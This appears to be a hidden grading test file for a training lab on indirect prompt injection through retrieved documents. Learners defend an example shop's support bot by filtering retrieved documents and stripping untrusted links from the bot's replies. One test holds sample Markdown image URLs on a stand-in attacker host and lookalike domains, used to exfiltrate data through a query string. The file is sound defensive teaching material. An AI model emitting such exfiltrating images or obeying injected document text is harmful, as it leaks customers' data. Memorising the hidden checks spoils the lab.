"""Hidden checks for the `retrieval_guard` lab: indirect prompt injection through retrieval.

The feature runs as the shop runs it: each retrieved document through the
learner's clean_document, the prompt built from what is left, the model asked
(the gullible fake, docs/gullible-model.md; the learner's own model with
`aisec lab --live`), the reply through safe_reply, and the result judged as the
customer's chat window would render it (tutor.labs.judge). The corpora are
tests/labs/retrieval_guard.yaml.
"""

from __future__ import annotations

from tutor.labs.judge import Outcome

SYSTEM = (
    "You are the support assistant of Example Shop. Answer the customer's question "
    "from the documents in the message, briefly and politely."
)


def _prompt(documents: list[str], question: str) -> str:
    numbered = "\n\n".join(f"[{n}] {doc}" for n, doc in enumerate(documents, 1))
    return f"Documents:\n{numbered}\n\nQuestion: {question}"


def _feature(exercise, lab):
    """The support bot with the learner's defence in place: a case in, what the
    customer sees out."""
    client = lab.client()

    def run(case) -> Outcome:
        kept = []
        for document in case.input["documents"]:
            cleaned = exercise.clean_document(document)
            if cleaned is None:
                continue
            if not isinstance(cleaned, str):
                raise TypeError(f"clean_document returned {type(cleaned).__name__}, "
                                "expected str or None")
            kept.append(cleaned)
        reply = client.chat(model=lab.model, options={"temperature": 0}, messages=[
            {"role": "system", "content": SYSTEM},
            {"role": "user", "content": _prompt(kept, case.input["question"])},
        ]).message.content or ""
        shown = exercise.safe_reply(reply)
        if not isinstance(shown, str):
            raise TypeError(f"safe_reply returned {type(shown).__name__}, expected str")
        return Outcome(shown)

    return run


def test_returns_text(exercise):
    """clean_document returns text or None, and safe_reply returns text"""
    document = "Gift cards never expire."
    cleaned = exercise.clean_document(document)
    assert cleaned is None or isinstance(cleaned, str), (
        f"clean_document({document!r}) returned {cleaned!r}; it must return the text the "
        "model may read (a str), or None to leave the document out."
    )
    reply = "Gift cards never expire. See [our help centre](https://help.example.com/cards)."
    shown = exercise.safe_reply(reply)
    assert isinstance(shown, str), (
        f"safe_reply({reply!r}) returned {shown!r}; it must return the Markdown to show (a str)."
    )


def test_keeps_the_shops_own_links_and_images(exercise):
    """safe_reply keeps links and images on example.com and its subdomains as they are"""
    for reply in ("Reset it at [the help centre](https://help.example.com/reset).",
                  "The size chart: ![size chart](https://cdn.example.com/size-chart.png)",
                  "The form is at [returns](https://www.example.com/returns).",
                  "Gift cards never expire."):
        shown = exercise.safe_reply(reply)
        assert shown == reply, (
            f"safe_reply({reply!r}) returned {shown!r}; a reply whose links all lead to the "
            "shop's own sites should reach the customer unchanged: stripping every link makes "
            "the bot useless."
        )


def test_removes_images_that_carry_data_away(exercise):
    """safe_reply removes an image whose URL leads to another host (lookalikes included)"""
    for url in ("https://evil.example/p.png?q=my%20card", "https://example.com.evil.example/s.png",
                "https://example.com@evil.example/c.png"):
        reply = f"Shipping takes 3 days. ![logo]({url})"
        shown = exercise.safe_reply(reply)
        assert isinstance(shown, str) and url not in shown, (
            f"safe_reply({reply!r}) returned {shown!r}: the chat window would fetch {url} "
            "the moment it renders the answer, sending the query string to that host. Keep an "
            "image only when urllib.parse.urlsplit(url).hostname is example.com or ends with "
            "'.example.com'."
        )


def test_attacks_blocked(exercise, lab):
    """Blocks the attacks: no exfiltration, phishing or hijack (held-out attacks included)"""
    lab.check_attacks(_feature(exercise, lab))


def test_usefulness_kept(exercise, lab):
    """Keeps ordinary questions answered usefully, links to the shop's own pages included"""
    lab.check_usefulness(_feature(exercise, lab))
